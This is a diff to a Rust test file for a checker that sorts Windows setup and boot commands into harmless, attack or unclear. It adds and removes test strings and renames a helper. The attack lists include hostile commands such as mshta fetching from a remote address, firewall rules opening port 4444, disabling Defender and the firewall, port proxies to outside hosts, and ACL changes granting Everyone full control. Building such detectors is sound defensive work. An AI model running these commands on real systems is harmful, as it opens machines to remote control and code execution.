@@ -1,6 +1,6 @@
 //! What commands do.
 
-use super::{Deed, judge};
+use super::{Deed, deed, judge};
 use crate::evidence::windows::{FirstCommand, Language, Occasion};
 use crate::policy::checks::windows::testing::with_context;
 
@@ -32,9 +32,6 @@ fn usual_commands_harm_nobody() {
         "net stop W32Time",
         r"cscript //b %windir%\system32\slmgr.vbs /skms kms.tencentyun.com:1688",
         r"cscript //nologo C:\Windows\System32\slmgr.vbs /ato",
-        r"cscript.exe /b /nologo %windir%\system32\slmgr.vbs /ato",
-        r"call %SystemRoot%\Setup\Scripts\more.cmd",
-        r"powershell -File C:\Windows\Setup\Scripts\more.ps1",
         r#"reg add "HKLM\SOFTWARE\My App" /v Installed /t REG_DWORD /d 1 /f"#,
         r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
         r"reg export HKLM\SOFTWARE\My C:\Windows\Temp\my.log /y",
@@ -68,24 +65,6 @@ fn usual_commands_harm_nobody() {
         "taskkill /f /im setup.exe",
         r#"reg delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword /f"#,
         r#"reg add "HKLM\SYSTEM\CurrentControlSet\Services\Disk" /v TimeOutValue /t REG_DWORD /d 200 /f"#,
-        "netsh interface teredo set state disabled",
-        "netsh int teredo set state type=default",
-        r#"netsh interface ipv4 set subinterface "Ethernet" mtu=1400 store=persistent"#,
-        "netsh int tcp set global autotuninglevel=normal rss=enabled",
-        "netsh int ipv4 set dynamicport tcp start=10000 num=55000",
-        "netsh int ip set global taskoffload=disabled",
-        "netsh interface 6to4 set state state=disabled",
-        "w32tm /resync /nowait /rediscover",
-        r"attrib +h C:\Recovery",
-        r"attrib -r -s C:\data\*.txt /s /d",
-        "reagentc /enable",
-        r"icacls C:\inetpub\logs /inheritance:r /grant:r SYSTEM:(OI)(CI)F Administrators:(OI)(CI)F",
-        r"icacls C:\data /grant *S-1-5-32-544:(OI)(CI)F /t",
-        r#"icacls "C:\Program Files\Shop" /remove:g Users "Authenticated Users" /t /c"#,
-        r"icacls %windir%\system32\config\*.* /inheritance:e",
-        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Enabled=false" "AutoLogon/Username=Administrator" "AutoLogon/LogonCount=1""#,
-        r#"AnswerSettings "Microsoft-Windows-TCPIP" "Interfaces/Interface/Ipv6Settings/DhcpEnabled=true""#,
-        r#"AnswerSettings "Security-Malware-Windows-Defender" "DisableAntiSpyware=false""#,
         r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "OOBE/HideEULAPage=true" "TimeZone=China Standard Time""#,
         "winrm quickconfig -q -transport:https",
         r#"winrm set winrm/config/winrs @{MaxMemoryPerShellMB="1024";MaxShellsPerUser="50"}"#,
@@ -223,11 +202,6 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         r"reg add HKLM\SOFTWARE\Tencent\WinAgent /v Server /d 203.0.113.7 /f",
         r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\SCHANNEL\Protocols\SSL 2.0\Server" /v Enabled /t REG_DWORD /d 1 /f"#,
         r"cscript //b C:\Windows\System32\slmgr.vbs /skms 203.0.113.7",
-        r"cscript /e:mine C:\Windows\System32\slmgr.vbs /ato",
-        r"C:\ProgramData\build.cmd",
-        r"C:\Windows\Temp\build.cmd",
-        r"C:\build\x.bat /all",
-        r"powershell -NoProfile -File C:\ProgramData\x.ps1",
         r#"netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=4444"#,
         "netsh advfirewall firewall add rule name=x dir=in action=allow",
         "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=80-65000",
@@ -247,36 +221,6 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         r"C:\ProgramData\lodctr.exe /r",
         r#"AnswerSettings "Networking-MPSSVC-Svc" "PublicProfile_EnableFirewall=false""#,
         r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "UserAccounts/DomainAccounts/DomainAccountList/Domain=x""#,
-        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Enabled=true" "AutoLogon/Username=x""#,
-        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Enabled=false" "AutoLogon/Enabled=true" "AutoLogon/Username=x""#,
-        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Username=x""#,
-        r#"AnswerSettings "Microsoft-Windows-TCPIP" "Interfaces/Interface/Ipv6Settings/DhcpEnabled=false""#,
-        r#"AnswerSettings "Security-Malware-Windows-Defender" "DisableAntiSpyware=true""#,
-        "netsh interface teredo set state enterpriseclient 203.0.113.7",
-        "netsh interface teredo set state servername=203.0.113.7",
-        "netsh interface 6to4 set relay 203.0.113.7",
-        "netsh interface isatap set router 203.0.113.7",
-        "netsh interface ipv4 set subinterface Ethernet mtu=68",
-        "netsh interface ipv4 set global sourceroutingbehavior=forward",
-        "netsh interface portproxy add v4tov4 listenport=3389 connectaddress=203.0.113.7",
-        "netsh interface ipv4 add route 0.0.0.0/0 Ethernet 203.0.113.9",
-        "netsh winhttp set proxy 203.0.113.9:8080",
-        "w32tm /resync /computer:203.0.113.9",
-        r"attrib +h WinAgent.exe",
-        r"attrib +r C:\WinAgent\*.*",
-        r"attrib +r C:\*.* /s",
-        r"attrib +r C:\WINAGE~1\x",
-        r"icacls C:\WinAgent /inheritance:r /grant:r SYSTEM:F Administrators:F",
-        r"icacls C:\data /inheritance:r /grant:r Administrators:F",
-        r"icacls C:\data /grant Everyone:F",
-        r"icacls C:\data /remove:g SYSTEM",
-        r"icacls C:\data /remove:d Users",
-        r"icacls C:\data /deny SYSTEM:F",
-        r"icacls C:\data /reset /t",
-        r"icacls C:\data /setowner x",
-        r"icacls C:\ /inheritance:r /grant:r SYSTEM:F Administrators:F",
-        r"icacls C:\Windows\System32 /remove:g Users",
-        r"icacls C:\Users /remove:g Users",
         "mshta http://203.0.113.7/",
         "ping -t 127.0.0.1",
         "ping -n 99999999 127.0.0.1",
@@ -373,7 +317,6 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
 
 #[test]
 fn what_runs_again_and_again_changes_nothing() {
-    use super::deed as of;
     with_context(|context| {
         for text in [
             "shutdown /r /t 0",
@@ -389,10 +332,10 @@ fn what_runs_again_and_again_changes_nothing() {
             "ipconfig /release",
             r"del /q C:\Windows\Panther\unattend.xml",
         ] {
-            let again = of(context, text, Language::Command, Occasion::Boot);
+            let again = deed(context, text, Language::Command, Occasion::Boot);
             assert!(matches!(again, Deed::Unclear(_)), "{text}: {again:?}");
         }
-        let once = of(
+        let once = deed(
             context,
             "wevtutil cl System",
             Language::Command,
@@ -410,7 +353,7 @@ fn what_runs_again_and_again_changes_nothing() {
             r"echo x >> C:\Windows\Temp\a.log",
             "timeout /t 5 & echo x",
         ] {
-            let again = of(context, text, Language::Command, Occasion::Logon);
+            let again = deed(context, text, Language::Command, Occasion::Logon);
             assert_eq!(again, Deed::Harmless, "{text}");
         }
         for text in [
@@ -418,16 +361,16 @@ fn what_runs_again_and_again_changes_nothing() {
             "Stop-Service W32Time",
             "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True",
         ] {
-            let again = of(context, text, Language::PowerShell, Occasion::Boot);
+            let again = deed(context, text, Language::PowerShell, Occasion::Boot);
             assert!(matches!(again, Deed::Unclear(_)), "{text}: {again:?}");
         }
         for text in ["Get-Date", "Start-Service W32Time", "Start-Sleep 3"] {
-            let again = of(context, text, Language::PowerShell, Occasion::Boot);
+            let again = deed(context, text, Language::PowerShell, Occasion::Boot);
             assert_eq!(again, Deed::Harmless, "{text}");
         }
         // What is written stands behind the command.
         let text = r"echo calc > C:\x.bat";
-        let written = of(context, text, Language::Command, Occasion::FirstBoot);
+        let written = deed(context, text, Language::Command, Occasion::FirstBoot);
         assert!(matches!(written, Deed::Unclear(_)), "{written:?}");
     });
 }
